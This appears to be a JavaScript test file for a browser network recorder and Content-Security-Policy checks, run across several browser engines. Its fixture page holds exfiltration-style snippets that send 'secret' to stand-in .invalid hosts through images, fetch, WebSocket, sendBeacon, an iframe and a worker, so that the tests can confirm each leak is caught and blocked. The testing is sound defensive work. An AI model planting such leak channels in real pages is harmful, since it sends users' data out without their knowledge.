// Proves that the recorder sees what it must see: on an unrestricted page, it
// catches each way of sending; on a page under the real policy, each report.
// What the other tests don't find therefore didn't happen.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { launch, present } from "./lib/engines.js";
import { startHost } from "./lib/host.js";
import { hostsIn } from "./lib/netlog.js";
import { until } from "./lib/processes.js";
import { startProxy } from "./lib/proxy.js";

// Each way of sending uses a different host, none of which exists. No browser
// blocks these ports.
const leaks = `
  new Image().src = "http://image.invalid:8123/i.png?secret";
  fetch("http://fetch.invalid:8123/", { mode: "no-cors" }).catch(() => {});
  try { new WebSocket("ws://socket.invalid:8123/"); } catch {}
  navigator.sendBeacon("http://beacon.invalid:8123/", "secret");
  const form = document.createElement("iframe");
  form.src = "http://frame.invalid:8123/";
  document.body.append(form);
  new Worker("/leak-worker.js");
`;
const leakWorker = `fetch("http://worker.invalid:8123/", { mode: "no-cors" }).catch(() => {});`;
const page = `<!doctype html><html lang="en"><link rel="icon" href="data:,"><title>t</title><body><script src="/leak.js"></script></body></html>`;
const files = { "/": page, "/leak.js": leaks, "/leak-worker.js": leakWorker };
const ways = ["image", "fetch", "socket", "beacon", "frame", "worker"];
const policy = "default-src 'none'; script-src 'self'; worker-src 'self'; connect-src 'self'; img-src 'self' data:";

for (const { id, name } of present) {
  describe(`${name}: the recorder`, () => {
    let proxy, browser;
    before(async () => {
      proxy = await startProxy();
      browser = await launch(id, { proxy });
    });
    after(async () => {
      await browser?.close();
      await proxy?.close();
    });

    test("catches every way out of a page without a policy", async () => {
      const host = await startHost({ extra: files });
      try {
        proxy.allow(host.origin);
        const tab = await browser.newPage();
        await tab.goto(`${host.origin}/`);
        for (const way of ways) {
          await until(() => proxy.foreign.some(({ host }) => host === `${way}.invalid:8123`), `the ${way} in the record`);
        }
        await tab.close();
      } finally {
        await host.close();
      }
    });

    test("gets a report of every way that a policy closes, and nothing leaves", async () => {
      proxy.foreign.length = 0;
      const host = await startHost({ extra: files, headers: { "content-security-policy": policy } });
      try {
        proxy.allow(host.origin);
        const tab = await browser.newPage();
        await tab.goto(`${host.origin}/`);
        for (const way of ways) {
          // WebKit reports no violation of a worker's own policy.
          if (way === "worker" && id === "webkit") continue;
          await until(() => proxy.reports.some((report) => String(report["blocked-uri"]).includes(`${way}.invalid`)), `a report of the ${way}`);
        }
        assert.deepEqual(proxy.foreign, []);
        await tab.close();
      } finally {
        await host.close();
      }
    });
  });
}

test("Chromium's network log names every host that was looked up", { skip: !present.some(({ id }) => id === "chromium") }, async () => {
  const host = await startHost({ extra: files });
  const hosts = await hostsIn(async (args) => {
    const browser = await launch("chromium", { args });
    const tab = await browser.newPage();
    await tab.goto(`${host.origin}/`);
    await tab.waitFor(() => performance.getEntriesByType("resource").some(({ name }) => name.includes("fetch.invalid")));
    await browser.close();
  });
  await host.close();
  for (const way of ways.slice(0, 3)) assert.ok(hosts.has(`${way}.invalid`), `${way}.invalid in ${[...hosts].join(" ")}`);
});
